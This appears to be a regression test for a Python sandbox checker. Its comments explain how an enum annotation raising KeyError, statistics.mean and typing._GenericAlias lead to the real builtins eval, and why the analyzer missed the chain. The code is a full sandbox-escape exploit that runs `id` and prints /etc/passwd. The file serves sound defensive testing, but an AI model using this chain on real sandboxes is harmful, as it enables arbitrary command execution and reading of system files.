# expect: reject class_value
# line: 62
# why: round 29c ok_06: 'x: RegexFlag[Ratio]' is an enum lookup raising KeyError(Ratio): a library enum class is no generic in an annotation
# ok_06 -- goal 1 (full escape: runs `id`, prints /etc/passwd); on the way goal 2:
#          the private class typing._GenericAlias, then the REAL builtins eval
#          (with the real __import__ and open).
#
# Mechanism: round 29b ok_03's chain (statistics.mean folding T = type hands
#   back typing._GenericAlias; _GenericAlias(dict, ("eval",),
#   name="__builtins__") deep-copied is operator.getitem(builtins, "eval")),
#   with a NEW way to hold the program's class Ratio as a value: a module-level
#   annotation is evaluated, and `x: RegexFlag[Ratio]` (RegexFlag imported from
#   re) is EnumType.__getitem__(RegexFlag, Ratio) = RegexFlag._member_map_[Ratio],
#   which raises KeyError(Ratio).  `except KeyError as e: e.args[0]` is the
#   class Ratio itself.
#
# Why the checker missed it: this session's wk_annotation_inert()
#   (analyzer/classes.c), now used by class_value_use() in stores.c, treats a
#   generic_type whose base is a library_name() -- ANY identifier bound only by
#   an import, or a builtin -- as "a library generic's parameter": inert.  But a
#   subscript of a library CLASS runs that class's __getitem__ /
#   __class_getitem__, and an enum class's (re.RegexFlag, and any other Enum
#   or Flag of an allowed module) raises KeyError(index), handing the index back.
#   rules/README.md already knows this (round 13d: "a library generic here is
#   an attribute of typing, collections or collections.abc ... an enum's raises
#   KeyError(index): re.RegexFlag[C]"), but library_name() does not restrict
#   the module.  So Ratio is "held by nobody", classes_held() stays false, and
#   statistics_conversions() lets statistics.mean stand.
#   Control: `x: re.RegexFlag[Ratio]` (attribute spelling, a subscript node,
#   not generic_type) and `x: typing.Optional[Ratio]` are refused (class_value
#   at statistics.mean).
import copy
import statistics
import typing
from re import RegexFlag


class Odd(int):
    def as_integer_ratio(self):
        raise ValueError("no ratio")

    def is_finite(self):
        return False

    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]


class Ratio:
    numerator = 1
    denominator = 1


try:
    x: RegexFlag[Ratio]
except KeyError as e:
    got = e.args[0]
print("KeyError handed back the class:", got)
maker = statistics.mean([Odd(1), got])
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
